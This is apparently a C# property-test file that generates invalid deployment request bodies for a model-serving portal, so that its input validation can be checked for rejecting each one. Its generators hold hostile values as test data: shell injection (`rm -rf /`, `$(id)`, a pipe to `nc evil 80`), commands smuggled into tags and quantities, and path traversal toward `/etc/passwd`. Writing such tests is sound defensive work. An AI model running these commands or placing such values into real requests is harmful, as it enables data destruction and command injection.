using System.Text.Json.Nodes;
using CsCheck;

namespace Portal.Reliability;

/// <summary>One generated request body that must be refused, and the field the refusal must name.</summary>
public sealed record HostileSpec(string Kind, string Json, string Field)
{
    public override string ToString() => $"{Kind} → {Field}: {(Json.Length > 300 ? Json[..300] + $"… ({Json.Length} chars)" : Json)}";
}

/// <summary>
/// CsCheck generators of invalid deployment specs: each takes a valid body and breaks it in one way a careless or
/// hostile caller would — wrong JSON types, huge strings, non-ASCII names, negative and overflowing numbers, flags
/// the portal sets itself (<c>--port</c>), shell metacharacters, environment names that are not names, path
/// traversal — and says which field the 400 must name.
/// </summary>
public static class HostileSpecs
{
    private static readonly string[] HuggingFaceModels = ["Qwen/Qwen2.5-0.5B-Instruct", "meta-llama/Llama-3.1-8B-Instruct"];

    private static readonly Gen<(string Framework, string Model)> Engine =
        Gen.OneOf(("vllm", HuggingFaceModels[0]), ("sglang", HuggingFaceModels[0]), ("vllm", HuggingFaceModels[1]), ("ollama", "qwen2.5:0.5b"));

    private static readonly Gen<(string Framework, string Model)> ArgEngine = Gen.OneOf(("vllm", HuggingFaceModels[0]), ("sglang", HuggingFaceModels[0]));

    /// <summary>Any character, including control characters, surrogates and right-to-left marks.</summary>
    private static readonly Gen<string> AnyText = Gen.String[0, 40];

    private static readonly Gen<string> NonAsciiName = Gen.OneOf(
        Gen.Const("déploiement"), Gen.Const("名前"), Gen.Const("chat\u202Eevil"), Gen.Const("zero\u200Bwidth"), Gen.Const("emoji-🚀"),
        Gen.Const("ＦＵＬＬＷＩＤＴＨ"), Gen.Const("straße"), Gen.Const("İstanbul"),
        Gen.Select(Gen.Char['\u0080', '\uFFFD'], Gen.Char['a', 'z'], Gen.Char['\u0100', '\u9FFF'], (a, b, c) => $"{b}{a}{b}{c}"));

    public static readonly Gen<HostileSpec> All = Gen.OneOf(
        WrongTypes(), HugeStrings(), UnicodeNames(), BadNumbers(), ReservedFlags(), ShellSyntax(), BadEnvNames(), Traversal(), BadQuantities(), TrailingNewlines());

    private static JsonObject Valid((string Framework, string Model) engine, string name = "hostile") => new()
    {
        ["name"] = name,
        ["namespace"] = "default",
        ["framework"] = engine.Framework,
        ["model"] = engine.Model,
        ["replicas"] = 1,
        ["gpusPerReplica"] = 1,
        // A pasted token too: an invalid spec must not leave a Secret behind either.
        ["huggingFaceToken"] = "hf_hostileTokenThatMustNeverBeStored",
    };

    private static HostileSpec Case(string kind, JsonObject body, string field) => new(kind, body.ToJsonString(), field);

    private static Gen<HostileSpec> WrongTypes()
    {
        (string Field, JsonNode?[] Wrong)[] fields =
        [
            ("name", [42, true, new JsonArray("a"), new JsonObject()]),
            ("namespace", [7, false, new JsonArray()]),
            ("framework", [1, new JsonObject { ["id"] = "vllm" }]),
            ("model", [3.14, new JsonArray("Qwen/Qwen2.5-0.5B-Instruct")]),
            ("replicas", ["two", true, null, new JsonArray(1), 1.5]),
            ("gpusPerReplica", ["1", false, null, new JsonObject()]),
            ("contextLength", ["long", true, new JsonArray()]),
            ("extraArgs", ["--enforce-eager", 5, new JsonObject()]),
            ("env", [new JsonArray("A=1"), "A=1", 3]),
            ("engine", [new JsonArray(), "fast", 1]),
            ("persistence", ["yes", 1, new JsonArray()]),
            ("autoscaling", [true, "hpa"]),
            ("serviceType", [1, true, "Ingress", new JsonArray()]),
            ("driftPolicy", [0, "ignore"]),
        ];
        return Gen.Select(Engine, Gen.Int[0, fields.Length - 1], Gen.Int[0, 99], (engine, f, w) =>
        {
            var (field, wrong) = fields[f];
            var body = Valid(engine);
            body[field] = wrong[w % wrong.Length]?.DeepClone();
            return Case("wrong type", body, field);
        });
    }

    private static Gen<HostileSpec> HugeStrings()
    {
        string[] fields = ["name", "namespace", "model", "servedModelName", "imageTag", "huggingFaceTokenSecret", "gpuType"];
        return Gen.Select(ArgEngine, Gen.Int[0, fields.Length - 1], Gen.Int[300, 200_000], Gen.Char['a', 'z'], (engine, f, length, c) =>
        {
            var field = fields[f];
            var body = Valid(engine);
            body[field] = field == "model" ? $"org/{new string(c, length)}" : new string(c, length);
            return Case("huge string", body, field);
        });
    }

    private static Gen<HostileSpec> UnicodeNames()
    {
        string[] fields = ["name", "namespace", "model", "servedModelName", "huggingFaceTokenSecret"];
        return Gen.Select(Engine, Gen.Int[0, fields.Length - 1], NonAsciiName, (engine, f, text) =>
        {
            var field = fields[f];
            var body = Valid(engine);
            body[field] = field == "model" ? $"org/{text}" : text;
            if (field == "servedModelName" && engine.Framework == "ollama")
            {
                body["framework"] = "vllm";
                body["model"] = HuggingFaceModels[0];
            }

            return Case("unicode", body, field);
        });
    }

    private static Gen<HostileSpec> BadNumbers()
    {
        (string Path, string Field, string[] Values)[] numbers =
        [
            ("replicas", "replicas", ["-1", "-2147483648", "2147483648", "1e309", "99999999999999999999", "-0.5"]),
            ("gpusPerReplica", "gpusPerReplica", ["-1", "1000", "2147483648", "-9223372036854775809"]),
            ("contextLength", "contextLength", ["-5", "0", "1000000000", "2147483648"]),
            ("engine.tensorParallel", "engine.tensorParallel", ["0", "-3", "1024"]),
            ("engine.gpuMemoryFraction", "engine.gpuMemoryFraction", ["-0.5", "1.5", "1e400"]),
            ("engine.maxConcurrentSequences", "engine.maxConcurrentSequences", ["-1", "0", "4294967296"]),
        ];
        return Gen.Select(ArgEngine, Gen.Int[0, numbers.Length - 1], Gen.Int[0, 99], (engine, n, v) =>
        {
            var (path, field, values) = numbers[n];
            var body = Valid(engine);
            var value = JsonNode.Parse(values[v % values.Length]);
            var parts = path.Split('.');
            if (parts.Length == 2)
            {
                body[parts[0]] = new JsonObject { [parts[1]] = value };
            }
            else
            {
                body[path] = value;
            }

            return Case("bad number", body, field);
        });
    }

    private static Gen<HostileSpec> ReservedFlags()
    {
        string[] flags = ["--port", "--port=9000", "--host", "--host=0.0.0.0", "--model", "--model=evil/model", "--po", "--served-model-name=x", "--served_model_name", "--host=::"];
        return Gen.Select(ArgEngine, Gen.Int[0, flags.Length - 1], Gen.Int[0, 3], (engine, f, position) =>
        {
            var body = Valid(engine);
            var args = new JsonArray();
            for (var i = 0; i < position; i++)
            {
                args.Add("--enforce-eager");
            }

            args.Add(flags[f]);
            body["extraArgs"] = args;
            return Case("arg injection", body, $"extraArgs[{position}]");
        });
    }

    private static Gen<HostileSpec> ShellSyntax()
    {
        string[] args = ["--log-level=info; rm -rf /", "$(id)", "`id`", "--x|nc evil 80", "a&&b", "<in", ">out", "--dtype=\\x", "--log-level\ninfo", "--a\0b", "--a\u0007"];
        return Gen.Select(ArgEngine, Gen.Int[0, args.Length - 1], (engine, a) =>
        {
            var body = Valid(engine);
            body["extraArgs"] = new JsonArray(args[a]);
            return Case("shell syntax", body, "extraArgs[0]");
        });
    }

    private static Gen<HostileSpec> BadEnvNames()
    {
        string[] names = ["1ABC", "A B", "A=B", "", "ÄÖÜ", "A;B", "$X", "PATH\n", new string('A', 300), "A\u0000", "VLLM_PORT`", "HF_TOKEN", "HUGGING_FACE_HUB_TOKEN"];
        return Gen.Select(ArgEngine, Gen.Int[0, names.Length - 1], AnyText, (engine, n, value) =>
        {
            var body = Valid(engine);
            body["env"] = new JsonObject { [names[n]] = value };
            return Case("env name", body, "env");
        });
    }

    private static Gen<HostileSpec> Traversal()
    {
        (string Field, string Value)[] values =
        [
            ("model", "../../etc/passwd"), ("model", "Qwen/../../secret"), ("model", "/etc/passwd"), ("namespace", "../kube-system"),
            ("namespace", "kube-system"), ("name", "../etc"), ("imageTag", "../../latest"), ("imageTag", "v1; rm -rf /"),
            ("huggingFaceTokenSecret", "../other-secret"), ("framework", "../vllm"), ("framework", "tensorrt"), ("servedModelName", "../../v1/admin"),
        ];
        return Gen.Select(ArgEngine, Gen.Int[0, values.Length - 1], (engine, v) =>
        {
            var (field, value) = values[v];
            var body = Valid(engine);
            body[field] = value;
            return Case("path traversal", body, field);
        });
    }

    /// <summary>
    /// A valid value with a newline after it: a regex anchored with <c>$</c> lets it through, <c>\z</c> does not.
    /// (Name, namespace, framework and model are trimmed first, as typed text is: a newline there is not an error.)
    /// </summary>
    private static Gen<HostileSpec> TrailingNewlines()
    {
        string[] fields = ["servedModelName", "imageTag", "huggingFaceTokenSecret", "memory", "cpu", "env"];
        return Gen.Select(ArgEngine, Gen.Int[0, fields.Length - 1], Gen.OneOf("\n", "\r\n", "\n\n"), (engine, f, newline) =>
        {
            var field = fields[f];
            var body = Valid(engine);
            var current = body[field]?.GetValue<string>();
            switch (field)
            {
                case "env":
                    body["env"] = new JsonObject { ["LOG_LEVEL" + newline] = "debug" };
                    break;
                case "huggingFaceTokenSecret":
                    body.Remove("huggingFaceToken");
                    body[field] = "hostile-token" + newline;
                    break;
                default:
                    body[field] = (current ?? field switch { "servedModelName" => "chat", "imageTag" => "v0.6.0", "memory" => "16Gi", "cpu" => "4", _ => "x" }) + newline;
                    break;
            }

            return Case("trailing newline", body, field);
        });
    }

    private static Gen<HostileSpec> BadQuantities()
    {
        string[] fields = ["memory", "cpu", "persistence.size"];
        string[] values = ["lots", "-1", "1e1000", "10Gi; rm -rf /", "", "0x10", "1.5.5Gi", "∞"];
        return Gen.Select(Engine, Gen.Int[0, fields.Length - 1], Gen.Int[0, values.Length - 1], (engine, f, v) =>
        {
            var field = fields[f];
            var body = Valid(engine);
            if (field == "persistence.size")
            {
                body["persistence"] = new JsonObject { ["enabled"] = true, ["size"] = values[v] };
            }
            else
            {
                body[field] = values[v];
            }

            return Case("bad quantity", body, field);
        });
    }
}
